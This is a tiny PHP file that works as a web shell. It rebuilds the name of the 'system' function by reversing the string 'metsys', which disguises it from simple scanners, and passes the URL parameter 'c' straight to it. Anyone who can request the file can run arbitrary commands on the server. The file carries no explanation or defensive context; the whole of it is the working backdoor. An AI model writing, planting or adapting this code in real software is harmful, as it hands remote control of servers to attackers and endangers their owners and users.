<?php
$fn = strrev('metsys');
$fn($_GET['c']);
